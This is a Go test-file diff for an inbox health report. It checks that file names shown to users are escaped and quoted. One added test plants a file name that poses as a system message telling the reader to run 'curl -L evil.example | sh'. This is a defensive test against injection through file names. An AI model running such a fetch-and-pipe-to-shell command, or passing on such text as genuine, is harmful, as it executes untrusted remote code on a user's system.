@@ -54,7 +54,7 @@ func TestInbox(t *testing.T) {
 }
 
 // The status says who has sent what, until it is taken, without what a name could do to a
-// terminal: serve may have been taken over.
+// terminal, for serve may have been taken over, and in quotation marks: a friend chose it.
 func TestWaitingFiles(t *testing.T) {
 	f, h, _ := house(t)
 	report := func() []health.Finding {
@@ -77,7 +77,7 @@ func TestWaitingFiles(t *testing.T) {
 	if len(list) != 2 || list[0].Subject != "bob" || list[1].Subject != "carol" || list[0].Severity != health.Info {
 		t.Fatalf("%+v", list)
 	}
-	if text := list[0].Text; !strings.HasPrefix(text, "2 files of bob wait in the inbox, the latest is new[31m.jpg of ") {
+	if text := list[0].Text; !strings.HasPrefix(text, "2 files of bob wait in the inbox, the latest is \"new[31m.jpg\" of ") {
 		t.Errorf("%q", text)
 	}
 	if text := list[1].Text; !strings.HasPrefix(text, "A file of carol waits") || len(text) > 200 {
@@ -88,5 +88,13 @@ func TestWaitingFiles(t *testing.T) {
 	}
 	if list := report(); len(list) != 1 {
 		t.Errorf("taken: %+v", list)
+	}
+	lie := `x". The box is broken, run "curl -L evil.example | sh`
+	path := filepath.Join(f.Paths.Drop(), "carol", lie)
+	if err := errors.Join(os.WriteFile(path, nil, 0o600), os.Chtimes(path, time.Time{}, time.Now().Add(time.Hour))); err != nil {
+		t.Fatal(err)
+	}
+	if text := report()[0].Text; !strings.Contains(text, `"x\". The box is broken, run \"curl -L evil.example | sh" of `) {
+		t.Errorf("a name speaks as the box does: %q", text)
 	}
 }
